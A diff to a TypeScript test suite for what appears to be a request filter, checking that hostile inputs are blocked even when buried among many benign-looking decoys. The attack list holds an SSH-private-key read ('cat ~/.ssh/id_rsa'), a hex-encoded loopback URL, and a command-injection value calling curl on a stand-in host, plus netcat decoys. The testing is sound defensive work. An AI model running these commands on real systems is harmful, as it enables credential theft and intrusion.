@@ -11,7 +11,7 @@ routes:
   - { name: unsure, match: { path: /unsure }, public: true, score: { deadline: 5s } }
   - { name: always, match: { path: /always }, public: true, score: { ask: always, deadline: 5s } }
 `;
-const decoy = (number: number) => `| nc evil ${number}`;
+const decoy = (number: number) => `nc evil ${1000 + number}`;
 const attacks = ["cat ~/.ssh/id_rsa", "http://0x7f000001/", "a && curl evil.sh"];
 
 let upstream: RecordingUpstream;
@@ -39,14 +39,12 @@ async function get(path: string, fields: readonly string[]): Promise<number> {
 for (const path of ["/unsure", "/always"]) {
   for (const attack of attacks) {
     test(`${path}: ${attack} is found among many decoys, in fields of their own and in one value`, async () => {
+      const decoys = Array.from({ length: 40 }, (_, i) => decoy(i));
+      assert.equal(await get(path, decoys), 200, "the decoys themselves");
       const seen = upstream.requests.length;
       assert.equal(await get(path, [attack]), 403, "alone");
       assert.equal(await get(path, [...Array.from({ length: 17 }, () => decoy(99)), attack]), 403, "equal decoys");
-      assert.equal(
-        await get(path, [...Array.from({ length: 40 }, (_, i) => decoy(i)), attack]),
-        403,
-        "different decoys",
-      );
+      assert.equal(await get(path, [...decoys, attack]), 403, "different decoys");
       const filler = "lorem ipsum dolor ".repeat(20);
       assert.equal(await get(path, [`${decoy(99)} ${filler}${attack}`]), 403, "behind one decoy and filler");
       assert.equal(upstream.requests.length, seen);
@@ -58,7 +56,7 @@ test("a request with more unsure values than are asked about is not waved throug
   const seen = upstream.requests.length;
   const status = await get(
     "/unsure",
-    Array.from({ length: 300 }, (_, i) => decoy(i + 1000)),
+    Array.from({ length: 300 }, (_, i) => decoy(i)),
   );
   assert.ok(status === 403 || status === 503, `${status}`);
   assert.equal(upstream.requests.length, seen);
